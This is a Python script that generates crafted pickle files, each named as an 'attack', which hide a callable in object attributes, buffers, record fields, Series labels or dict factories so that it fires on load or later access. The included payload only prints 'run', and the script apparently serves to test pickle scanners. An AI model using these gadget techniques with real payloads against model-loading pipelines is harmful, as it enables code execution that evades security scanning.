# Something to call that is an attribute although nobody set it: an item of a Bunch, the field of a record, a label of a
# Series, a buffer of a module; or that becomes one when the object is there already.
from pickle_asm import *


def called(module, name, *arguments):
    return stack_global(module, name) + args(*(raw(item) if isinstance(item, bytes) else item for item in arguments)) + REDUCE


def pairs(items):
    return MARK + b"".join(text(key) + (item if isinstance(item, bytes) else constant(item)) for key, item in items.items()) + SETITEMS


def made(module, name):
    return stack_global(module, name) + EMPTY_TUPLE + NEWOBJ


def identifier(code):
    return called("uuid", "UUID", code)


def attack(name, code):
    save(name + ".pkl", proto(4) + code + STOP)


LENT = called("functools", "partial", stack_global("builtins", "print"), "run")
ITEMS = EMPTY_DICT + pairs({"replace": LENT})
RESULT = ("scipy.optimize._optimize", "OptimizeResult")

attack("bunch", identifier(made("sklearn.utils._bunch", "Bunch") + pairs({"replace": LENT})))
attack("bunch_many", identifier(made("sklearn.utils._bunch", "Bunch") + pairs({f"a{i}": i for i in range(70)} | {"replace": LENT})))
attack("result", identifier(made(*RESULT) + pairs({"replace": LENT})))
attack("result_called", identifier(called(*RESULT, ITEMS)))
attack("result_rebuilt", identifier(called("copyreg", "_reconstructor", stack_global(*RESULT), stack_global("builtins", "dict"), ITEMS)))
attack("buffers", identifier(made("torch.nn.modules.linear", "Identity") + EMPTY_DICT + pairs(
    {"_parameters": {}, "_buffers": ITEMS, "_modules": {}}) + BUILD))
LATE = made("torch.nn.modules.linear", "Identity") + EMPTY_DICT + pairs(
    {"_parameters": {}, "_buffers": EMPTY_DICT + MEMOIZE, "_modules": {}}) + BUILD + MEMOIZE
attack("buffers_filled_late", MARK + LATE + b"h\0" + text("replace") + LENT + SETITEM
       + stack_global("uuid", "UUID") + b"h\1" + TUPLE1 + REDUCE + TUPLE)
OBJECTS = called("numpy", "dtype", "O8", False, True)
ARRAY = called("numpy.core.multiarray", "_reconstruct", stack_global("numpy", "ndarray"), constant((0,)), b"C\x01b")
attack("record", identifier(called("numpy.core.multiarray", "scalar", OBJECTS, ARRAY + MARK + number(1) + EMPTY_TUPLE + OBJECTS
                                   + b"\x89" + EMPTY_LIST + LENT + TUPLE1 + APPEND + TUPLE + BUILD)))
attack("array", called("pandas", "Series", ARRAY + MARK + number(1) + constant((1,)) + OBJECTS + b"\x89" + EMPTY_LIST
                       + made("types", "SimpleNamespace") + EMPTY_DICT + pairs({"dtype": LENT}) + BUILD + APPEND + TUPLE + BUILD))
attack("series", called("torch.distributions.categorical", "Categorical", called("pandas", "Series", EMPTY_LIST + LENT + APPEND, ["dim"])))
attack("key_of_frame", made("collections", "UserDict") + EMPTY_DICT + pairs({"data": called("pandas", "DataFrame", {"a": [1]})}) + BUILD
       + LENT + number(1) + SETITEM)
attack("key_in_tuple", EMPTY_DICT + called("fractions", "Fraction", 1) + EMPTY_DICT + pairs({"_numerator": LENT}) + BUILD
       + TUPLE1 + number(1) + SETITEM)
attack("factory", called("collections", "ChainMap", called("collections", "defaultdict", stack_global("acme", "run")), {"a": 1}))
